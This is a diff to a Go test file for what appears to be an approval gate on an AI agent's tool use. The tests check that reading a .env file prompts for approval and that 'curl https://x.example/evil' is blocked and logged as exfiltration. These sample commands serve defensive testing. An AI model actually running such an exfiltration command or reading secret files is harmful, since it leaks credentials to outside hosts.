@@ -221,7 +221,7 @@ func TestSession(t *testing.T) {
 	silent(a.event("one", "SessionStart", fields{"source": "startup"}))
 	expect("one", "ls", "allow", "")
 	expect("one", "curl -s https://example.com/a", "allow", "")
-	expect("one", "curl -s https://example.com/b", "ask", "untrusted content, and this was not cleared: no reviewer is set up; seen: https://example.com/a")
+	expect("one", "curl -s https://example.com/b", "ask", "untrusted content, and this talks to a machine that nobody here knows; seen: https://example.com/a")
 	expect("one", "ls", "allow", "") // whatever was seen
 	if decision, reason := a.tool("one", "Read", "file_path", "/srv/project/.env"); decision != "ask" || !strings.Contains(reason, "A file of environment variables") {
 		t.Errorf("a secret: %s (%s)", decision, reason)
@@ -480,7 +480,7 @@ func TestDecisionLog(t *testing.T) {
 	a.event("s", "SessionStart", fields{"source": "startup"})
 	a.bash("s", "ls -la")
 	a.tool("s", "WebFetch", "url", "https://example.org/")
-	a.bash("s", "make evil")
+	a.bash("s", "curl https://x.example/evil")
 	a.event("s", "PostToolUse", fields{"tool_name": "WebFetch", "tool_input": fields{"url": "https://example.org/"}, "tool_use_id": "use of WebFetch", "agent_id": "a1"})
 	path := filepath.Join(a.store().Dir, "audit.log")
 	got := a.auditLines(path)
@@ -489,8 +489,8 @@ func TestDecisionLog(t *testing.T) {
 		{"event": "session_start", "session": "s"},
 		{"event": "before_tool_use", "session": "s", "tool": "Bash", "use": "use of ls -la", "command": "ls -la", "decision": "allow", "rules": []any{"ls.allow"}, "reach": "local"},
 		{"event": "before_tool_use", "session": "s", "tool": "WebFetch", "use": "use of WebFetch", "decision": "skip", "reach": "network", "seen": []any{"WebFetch https://example.org/"}},
-		{"event": "before_tool_use", "session": "s", "tool": "Bash", "use": "use of make evil", "command": "make evil", "decision": "block", "corruption": 2.0,
-			"reason": "Flagged by the reviewer: it would send data out (exfiltration)", "rules": []any{"cop.flag", "make.target"}, "provider": "openai", "reach": "unknown", "cop": "flag", "cop_code": "exfiltration"},
+		{"event": "before_tool_use", "session": "s", "tool": "Bash", "use": "use of curl https://x.example/evil", "command": "curl https://x.example/evil", "decision": "block", "corruption": 2.0,
+			"reason": "Flagged by the reviewer: it would send data out (exfiltration)", "rules": []any{"cop.flag"}, "provider": "openai", "reach": "network", "cop": "flag", "cop_code": "exfiltration"},
 		{"event": "after_tool_use", "session": "s", "agent": "a1", "tool": "WebFetch", "use": "use of WebFetch"},
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
